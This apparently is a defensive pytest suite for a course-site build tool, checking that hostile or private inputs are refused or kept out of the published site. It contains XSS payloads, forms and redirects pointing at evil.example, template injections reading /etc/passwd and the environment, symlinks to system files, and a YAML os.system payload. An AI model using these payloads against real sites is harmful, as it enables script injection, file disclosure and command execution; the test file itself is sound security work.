"""Hostile and careless inputs, each built for real: the build either refuses it, naming
the file and keeping the last good site, or publishes nothing hostile or private.

Every case asserts on what is published (pages, search index, sitemap), not only on
the exit status.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from PIL import Image

from factory import Course, tree_hash

REFUSED, CLEAN = "refused", "clean"


@dataclass(frozen=True)
class Case:
    name: str
    setup: Callable[[Course], None]
    outcome: str  # REFUSED: the build stops and names the file; CLEAN: it builds and none of `absent` is published
    absent: tuple[str, ...] = ()
    names: str = ""  # what the message must name when refused


def body(text: str, folder: str = "01-test", **meta: object) -> Callable[[Course], None]:
    return lambda course: course.module(folder=folder, body=text, **meta) and None


def doc(name: str, text: str) -> Callable[[Course], None]:
    return lambda course: course.write(f"docs/{name}", text) and None


def both(*steps: Callable[[Course], None]) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        for step in steps:
            step(course)

    return run


def ok_module(course: Course) -> None:
    course.module(body="## Fine\n\nA fine page.\n")


def symlink(rel: str, target: str) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        path = course.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)

    return run


def exif_photo(course: Course) -> None:
    course.module(body="## Photo\n\n![A ward](ward.jpg)\n")
    image = Image.new("RGB", (20, 20), (200, 10, 10))
    exif = Image.Exif()
    exif[0x013B] = "Jane Patient"  # Artist
    exif[0x010E] = "Home of Jane Patient"  # ImageDescription
    image.save(course.root / "modules/01-test/ward.jpg", exif=exif.tobytes())


def write_bytes(rel: str, data: bytes) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        path = course.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return run


def config(**changes: object) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        course.config.update(changes)
        course.write_config()

    return run


def raw_config(text: str) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        path = course.root / "mkdocs.yml"
        path.write_text(path.read_text() + text)

    return run


PHONE = "07700 900461"
CASES = [
    # --- unsafe HTML in pages ---------------------------------------------------------------
    Case("script tag", body("Hi <script>alert(1)</script>\n"), REFUSED, ("alert(1)",), "modules/01-test/index.md"),
    Case("img handler split over lines", body('<img src="x.png"\nonerror="alert(2)">\n'), REFUSED, ("alert(2)",)),
    Case("attr list handler", body('A paragraph.\n{onclick="alert(3)"}\n'), REFUSED, ("alert(3)",)),
    Case("entity in javascript link", body("[Click](java&#10;script:alert(4))\n"), REFUSED, ("alert(4)",)),
    Case("reference link on next line", body("[Click][x]\n\n[x]:\n    javascript:alert(5)\n"), REFUSED, ("alert(5)",)),
    Case(
        "svg animate href",
        body('<svg><a><animate attributeName="href" values="javascript:alert(6)"/><text y="20">x</text></a></svg>\n'),
        REFUSED,
        ("alert(6)",),
    ),
    Case("iframe srcdoc", body('<iframe srcdoc="<script>alert(7)</script>"></iframe>\n'), REFUSED, ("alert(7)",)),
    Case("meta refresh", body('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'), REFUSED, ("evil.example",)),
    Case(
        "full screen overlay",
        body('<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</div>\n'),
        REFUSED,
        ("position:fixed",),
    ),
    Case("tracking pixel", body('<img src="https://tracker.example/p.gif" alt="">\n'), REFUSED, ("tracker.example",)),
    Case("object embed", body('<object data="x.swf"></object><embed src="y.swf">\n'), REFUSED, ("x.swf", "y.swf")),
    Case("form", body('<form action="https://evil.example/"><input name="pw"></form>\n'), REFUSED, ("evil.example",)),
    Case("base tag", body('<base href="https://evil.example/">\n'), REFUSED, ("evil.example",)),
    Case("style tag", body("<style>body{display:none}</style>\n"), REFUSED, ("display:none",)),
    Case("data html link", body("[Open](data:text/html;base64,PHNjcmlwdD4=)\n"), REFUSED, ("data:text/html",)),
    Case("vbscript link", body('<a href="vbscript:msgbox(8)">x</a>\n'), REFUSED, ("msgbox(8)",)),
    Case("foreign object", body('<svg><foreignObject><p onclick="alert(9)">x</p></foreignObject></svg>\n'), REFUSED, ("alert(9)",)),
    Case("details ontoggle", body('<details open ontoggle="alert(10)"><summary>x</summary>y</details>\n'), REFUSED, ("alert(10)",)),
    Case(
        "javascript in sources",
        body("Fine.\n", sources=[{"title": "A source", "url": "javascript:alert(11)", "accessed": "2026-11-01"}]),
        REFUSED,
        ("alert(11)",),
    ),
    Case("template tag", body("<template><img src=x onerror=alert(12)></template>\n"), REFUSED, ("alert(12)",)),
    Case(
        "story with script",
        both(ok_module, lambda c: c.story("bad", body="<script>alert(13)</script>\n") and None),
        REFUSED,
        ("alert(13)",),
    ),
    Case(
        "glossary with script",
        both(ok_module, lambda c: c.term("bad", "bad word", "Plain.", body="<script>alert(14)</script>\n") and None),
        REFUSED,
        ("alert(14)",),
    ),
    Case("docs page with script", both(ok_module, doc("about.md", "# About\n\n<script>alert(15)</script>\n")), REFUSED, ("alert(15)",)),
    # --- macros -------------------------------------------------------------------------------
    Case("macro builds a script", body('{{ "<scr" ~ "ipt>alert(16)</scr" ~ "ipt>" }}\n'), REFUSED, ("alert(16)",)),
    Case("macro power", body("{{ (9**9)**(9**9) }}\n"), REFUSED),
    Case("macro repeat", body('{{ "ab" * 400000000 }}\n'), REFUSED),
    Case("macro reads config", body("{{ config.site_name }}\n"), REFUSED),
    Case("macro reads environment", body("{{ environ }}\n"), REFUSED),
    Case("macro includes a file", body('{% include "/etc/passwd" %}\n'), REFUSED, ("root:x:",)),
    Case("macro defined", body("{% macro x() %}hi{% endmacro %}{{ x() }}\n"), REFUSED),
    # --- files ----------------------------------------------------------------------------------
    Case("html file in docs", both(ok_module, doc("evil.html", "<script>alert(17)</script>")), REFUSED, ("alert(17)",), "docs/evil.html"),
    Case("js file in docs", both(ok_module, doc("evil.js", "alert(18)")), REFUSED, ("alert(18)",), "docs/evil.js"),
    Case(
        "svg with script in docs",
        both(ok_module, doc("pic.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(19)</script></svg>')),
        REFUSED,
        ("alert(19)",),
    ),
    Case("symlinked docs page", symlink("docs/secret.md", "/etc/hostname"), REFUSED, (), "secret.md"),
    Case("symlinked module image", symlink("modules/01-test/leak.png", "/etc/hostname"), REFUSED, (), "leak.png"),
    Case(
        "pdf left in module",
        both(ok_module, write_bytes("modules/01-test/form.pdf", b"%PDF-1.4 Jane Patient 07700 900461")),
        REFUSED,
        ("Jane Patient",),
        "form.pdf",
    ),
    Case("docx left in module", both(ok_module, write_bytes("modules/01-test/notes.docx", b"PK fake")), REFUSED, (), "notes.docx"),
    Case("photo with hidden name", exif_photo, CLEAN, ("Jane Patient",)),
    # --- personal details ----------------------------------------------------------------------
    Case("phone with non-breaking space", body("Ring Sam on 07700\u00a0900461.\n"), REFUSED, ("900461",)),
    Case("phone 0044", body("Ring Sam on 0044 7700 900461.\n"), REFUSED, ("900461",)),
    Case("phone dotted", body("Ring Sam on 07700.900.461.\n"), REFUSED, ("900.461",)),
    Case("phone wrapped over lines", body("Ring Sam on 07700\n900461 any time.\n"), REFUSED, ("900461",)),
    Case("postcode lower case", body("She lives at sw1a 1aa now.\n"), REFUSED, ("sw1a 1aa",)),
    Case("born in words", body("She was born on 3rd of March 1950 in Leeds.\n"), REFUSED, ("1950",)),
    Case("email", body("Write to jane.patient@example.com today.\n"), REFUSED, ("jane.patient@",)),
    Case("nhs number", body("Her number is 943 476 5919.\n"), REFUSED, ("5919",)),
    Case("phone in summary", body("Fine.\n", summary=f"Call {PHONE} for help."), REFUSED, ("900461",)),
    Case("phone in code", body(f"```\ncall {PHONE}\n```\n"), REFUSED, ("900461",)),
    Case("phone in alt text", body(f"![Call {PHONE}](pic.png)\n"), REFUSED, ("900461",)),
    Case("phone in link title", body(f'[Help](https://www.nhs.uk/ "Call {PHONE}")\n'), REFUSED, ("900461",)),
    Case("phone in docs page", both(ok_module, doc("about.md", f"# About\n\nCall {PHONE}.\n")), REFUSED, ("900461",)),
    Case("phone in glossary", both(ok_module, lambda c: c.term("t", "a term", f"Call {PHONE} for this.") and None), REFUSED, ("900461",)),
    Case("phone in story", both(ok_module, lambda c: c.story("s", body=f"Call me on {PHONE}.\n") and None), REFUSED, ("900461",)),
    # --- configuration --------------------------------------------------------------------------
    Case(
        "python tag",
        raw_config("\nextra:\n  x: !!python/object/apply:os.system ['echo hacked > /tmp/sbs-hacked']\n"),
        REFUSED,
        (),
        "mkdocs.yml",
    ),
    # --- limits -----------------------------------------------------------------------------------
    Case("deep nesting of boxes", body("<div>" * 3000 + "deep" + "</div>" * 3000 + "\n"), CLEAN),
    Case("deep quotes", body(">" * 2000 + " deep\n"), REFUSED, (), "modules/01-test/index.md"),
]


def _published(site: Path) -> str:
    texts = []
    for path in site.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".json", ".xml", ".svg", ".js", ".png", ".jpg", ".gif"):
            texts.append(path.read_bytes().decode("utf-8", errors="replace"))
    return "\n".join(texts)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(tmp_path: Path, case: Case) -> None:
    course = Course(tmp_path)
    course.config["plugins"][2]["sidebyside"].update({"handouts": False, "trainer_edition": False})
    course.write_config()
    ok_module(course)
    first = course.build()
    assert first.code == 0, first.text
    before = tree_hash(course.root / "site")
    case.setup(course)
    result = course.run("build", "--strict", timeout=120)
    assert "Traceback" not in result.text and "fault in the tool" not in result.text, result.text
    site = course.root / "site"
    if case.outcome == REFUSED:
        assert result.code != 0, f"{case.name} was published:\n{result.text}"
        assert tree_hash(site) == before, "the last good site was not left whole"
        if case.names:
            assert case.names in result.text, result.text
    else:
        assert result.code == 0, result.text
    published = _published(site)
    for text in case.absent:
        assert text not in published, f"{case.name}: {text!r} was published"
    assert not Path("/tmp/sbs-hacked").exists()


def test_the_table_covers_the_kinds_of_hostile_input() -> None:
    assert len(CASES) >= 55
